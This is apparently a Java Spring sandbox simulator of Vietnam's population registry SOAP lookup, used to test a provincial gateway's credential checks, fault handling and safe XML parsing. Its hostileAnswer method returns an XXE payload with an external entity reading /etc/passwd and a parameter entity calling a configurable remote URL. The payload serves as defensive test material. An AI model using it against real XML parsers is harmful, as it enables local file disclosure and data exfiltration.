package vn.lienthong.gateway.sandbox;

import java.time.format.DateTimeFormatter;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicLong;

import org.springframework.boot.autoconfigure.condition.ConditionalOnProperty;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RequestMapping;
import org.springframework.web.bind.annotation.RestController;
import org.w3c.dom.Document;
import vn.lienthong.gateway.sandbox.Person.Address;
import vn.lienthong.gateway.xml.SafeXml;
import vn.lienthong.gateway.xml.XmlRejectedException;

/**
 * Simulates the national population database as the provincial data-sharing platform exposes it:
 * a SOAP operation {@code TraCuuThongTinCongDan} at {@code POST /sandbox/population/ws} taking
 * {@code MaYeuCau, MaDVC, MaTichHop, MaCanBo} and {@code SoDinhDanh} or {@code SoCMND}, answering
 * {@code MaLoi} (0 found, 1 no such citizen, 2 bad request) and a {@code CongDan} record in the
 * shape of FORMATS.md. It demands the platform's credentials (a bearer token from
 * {@code /sandbox/oauth2/token} or the custom header) and honours the fault switches of system
 * {@code population}.
 */
@RestController
@RequestMapping("/sandbox/population")
@ConditionalOnProperty(name = "gateway.sandbox.enabled", havingValue = "true")
public class PopulationRegistrySimulator {

    public static final String SYSTEM = "population";
    static final String NS = "urn:vn:gov:csdlqgdc:congdan:1.0";
    private static final DateTimeFormatter DATE = DateTimeFormatter.BASIC_ISO_DATE;
    private static final MediaType SOAP = MediaType.parseMediaType("text/xml;charset=UTF-8");

    private final Population population;
    private final SandboxTokens tokens;
    private final SandboxFaults faults;
    private final AtomicLong requests = new AtomicLong();

    PopulationRegistrySimulator(Population population, SandboxTokens tokens, SandboxFaults faults) {
        this.population = population;
        this.tokens = tokens;
        this.faults = faults;
    }

    @GetMapping("/health")
    ResponseEntity<String> health() {
        return faults.of(SYSTEM).mode() == SandboxFaults.Mode.DOWN
                ? ResponseEntity.status(503).body("DOWN")
                : ResponseEntity.ok("UP");
    }

    /** How many look-ups the simulator received since start, as plain text. */
    @GetMapping(value = "/stats", produces = MediaType.TEXT_PLAIN_VALUE)
    String stats() {
        return Long.toString(requests.get());
    }

    @PostMapping(value = "/ws")
    ResponseEntity<String> lookUp(@RequestHeader(value = HttpHeaders.AUTHORIZATION, required = false) String authorization,
                                  @RequestHeader(value = "lgspaccesstoken", required = false) String customHeader,
                                  @RequestBody(required = false) byte[] body) {
        requests.incrementAndGet();
        if (faults.apply(SYSTEM)) {
            return ResponseEntity.status(503).contentType(MediaType.TEXT_PLAIN).body("Service Unavailable");
        }
        if (faults.of(SYSTEM).mode() == SandboxFaults.Mode.HOSTILE) {
            return soap(200, hostileAnswer());
        }
        if (!tokens.accepts(authorization, customHeader)) {
            return soap(401, fault("Client", "Thiếu hoặc sai thông tin xác thực (invalid credentials)"));
        }
        Document request;
        try {
            request = SafeXml.parse(body == null ? new byte[0] : body);
        } catch (XmlRejectedException e) {
            return soap(400, fault("Client", "Yêu cầu không hợp lệ (malformed request)"));
        }
        String requestId = SafeXml.firstText(request, "MaYeuCau");
        String personalId = SafeXml.firstText(request, "SoDinhDanh");
        String oldCard = SafeXml.firstText(request, "SoCMND");
        Optional<Person> person;
        if (personalId != null && personalId.matches("\\d{12}")) {
            person = population.byPersonalId(personalId);
        } else if (oldCard != null && oldCard.matches("\\d{9}")) {
            person = population.byOldCard(oldCard);
        } else {
            return soap(200, answer(requestId, "2", "Số định danh không hợp lệ", null));
        }
        return person
                .map(p -> soap(200, answer(requestId, "0", "Thành công", p)))
                .orElseGet(() -> soap(200, answer(requestId, "1", "Không tìm thấy thông tin công dân", null)));
    }

    /** Requests received since start (for tests and the benchmark). */
    public long requestCount() {
        return requests.get();
    }

    private static ResponseEntity<String> soap(int status, String envelope) {
        return ResponseEntity.status(status).contentType(SOAP).body(envelope);
    }

    private static String answer(String requestId, String code, String description, Person p) {
        StringBuilder xml = new StringBuilder(2048);
        xml.append("<?xml version=\"1.0\" encoding=\"UTF-8\"?>")
                .append("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:dc=\"").append(NS).append("\">")
                .append("<soapenv:Body><dc:TraCuuThongTinCongDanResponse>");
        element(xml, "MaYeuCau", requestId);
        element(xml, "MaLoi", code);
        element(xml, "MoTaLoi", description);
        if (p != null) {
            xml.append("<dc:CongDan>");
            element(xml, "SoDinhDanh", p.personalId());
            element(xml, "SoCMND", p.oldCardNumber());
            xml.append("<dc:HoVaTen>");
            element(xml, "Ho", p.familyName());
            element(xml, "ChuDem", p.middleName());
            element(xml, "Ten", p.givenName());
            xml.append("</dc:HoVaTen>");
            element(xml, "GioiTinh", p.female() ? "2" : "1");
            element(xml, "DanToc", p.ethnicity());
            element(xml, "TonGiao", "00");
            element(xml, "TinhTrangHonNhan", p.maritalStatus());
            element(xml, "NgayThangNamSinh", p.birthDate().format(DATE));
            address(xml, "NoiDangKyKhaiSinh", p.birthPlace());
            address(xml, "QueQuan", p.hometown());
            address(xml, "ThuongTru", p.permanentResidence());
            address(xml, "NoiOHienTai", p.currentResidence());
            element(xml, "QuocTich", "VN");
            relative(xml, "Cha", p.fatherName());
            relative(xml, "Me", p.motherName());
            xml.append("<dc:ChuHo>");
            element(xml, "HoVaTen", p.fullName());
            element(xml, "SoDinhDanh", p.personalId());
            element(xml, "QuanHe", "Chủ hộ");
            xml.append("</dc:ChuHo>");
            if (p.deathDate() != null) {
                element(xml, "NgayMat", p.deathDate().format(DATE));
            }
            xml.append("</dc:CongDan>");
        }
        xml.append("</dc:TraCuuThongTinCongDanResponse></soapenv:Body></soapenv:Envelope>");
        return xml.toString();
    }

    /** An answer a spoofed registry might send: an external entity that would read a local file and call out. */
    private String hostileAnswer() {
        return "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY file SYSTEM \"file:///etc/passwd\">"
                + "<!ENTITY % remote SYSTEM \"" + faults.of(SYSTEM).hostileUrl() + "\"> %remote;]>"
                + "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:dc=\"" + NS + "\">"
                + "<soapenv:Body><dc:TraCuuThongTinCongDanResponse><dc:MaLoi>0</dc:MaLoi><dc:CongDan><dc:SoDinhDanh>&file;</dc:SoDinhDanh>"
                + "</dc:CongDan></dc:TraCuuThongTinCongDanResponse></soapenv:Body></soapenv:Envelope>";
    }

    private static String fault(String code, String message) {
        StringBuilder xml = new StringBuilder();
        xml.append("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><soapenv:Fault>")
                .append("<faultcode>soapenv:").append(code).append("</faultcode><faultstring>");
        escape(xml, message);
        return xml.append("</faultstring></soapenv:Fault></soapenv:Body></soapenv:Envelope>").toString();
    }

    private static void address(StringBuilder xml, String name, Address a) {
        xml.append("<dc:").append(name).append('>');
        element(xml, "MaTinhThanh", a.provinceCode());
        element(xml, "TenTinhThanh", a.provinceName());
        element(xml, "MaPhuongXa", a.communeCode());
        element(xml, "TenPhuongXa", a.communeName());
        element(xml, "ChiTiet", a.detail());
        element(xml, "QuocGia", "VN");
        xml.append("</dc:").append(name).append('>');
    }

    private static void relative(StringBuilder xml, String name, String fullName) {
        xml.append("<dc:").append(name).append('>');
        element(xml, "HoVaTen", fullName);
        xml.append("</dc:").append(name).append('>');
    }

    private static void element(StringBuilder xml, String name, String value) {
        if (value == null) {
            return;
        }
        xml.append("<dc:").append(name).append('>');
        escape(xml, value);
        xml.append("</dc:").append(name).append('>');
    }

    private static void escape(StringBuilder xml, String value) {
        for (int i = 0; i < value.length(); i++) {
            char c = value.charAt(i);
            switch (c) {
                case '<' -> xml.append("&lt;");
                case '>' -> xml.append("&gt;");
                case '&' -> xml.append("&amp;");
                case '"' -> xml.append("&quot;");
                default -> xml.append(c);
            }
        }
    }
}
